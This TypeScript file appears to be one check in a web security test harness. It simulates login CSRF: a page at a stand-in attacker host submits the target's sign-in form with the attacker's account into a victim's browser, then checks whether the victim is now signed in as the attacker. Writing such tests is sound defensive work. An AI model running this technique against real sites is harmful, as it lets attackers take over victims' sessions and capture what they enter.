/**
 * Login CSRF: a page of the attacker sends the sign-in form for its visitor, with an account of the attacker. Whatever she
 * then enters is his; and where she was signed in already, her own session is gone. A browser withholds a Lax cookie
 * from such a request, and takes the Set-Cookie of its answer all the same.
 */
import { defineAttack, Undecided } from './attack.ts'
import { Browser } from './lib/browser.ts'
import { at, settle } from './lib/people.ts'
import type { Target } from './target.ts'

export const crossSiteSignIn = defineAttack('F3 sign-in by a cross-site form', [], async (target) => {
  const { other } = target.users
  const stranger = new Browser(target.address)
  await stranger.load(at(target, '/'))
  await sendForm(target, stranger)
  const name = await whoIs(target, stranger)
  if (name === other.name) return { got: true, evidence: `a visitor of the attacker's page is ${name} from then on` }

  const victim = await settle(target)
  await sendForm(target, victim.browser)
  const after = await whoIs(target, victim.browser)
  if (after === victim.user.name)
    return { got: false, evidence: `a stranger stays nobody, and ${after} stays ${after}` }
  return { got: true, evidence: `${victim.user.name} came to the attacker's page, and is ${after ?? 'nobody'} now` }
})

async function sendForm(target: Target, browser: Browser) {
  // The attacker fills in a form of his own first: it may have hidden fields that must be right.
  const attacker = new Browser(target.address)
  const { action, how } = await attacker.prepare(target.url, target.signIn(target.users.other))
  const answer = await attacker.load(action, { ...how })
  if (answer.status >= 400 || !(await whoIs(target, attacker))) throw new Undecided('the form does not work at all')
  const fresh = await new Browser(target.address).prepare(target.url, target.signIn(target.users.other))
  await browser.load(fresh.action, { ...fresh.how, from: 'https://attacker.test/win' })
}

async function whoIs(target: Target, browser: Browser): Promise<string | undefined> {
  const { body } = await browser.load(at(target, target.whoami))
  return Object.values(target.users).find(({ name }) => body.includes(name))?.name
}
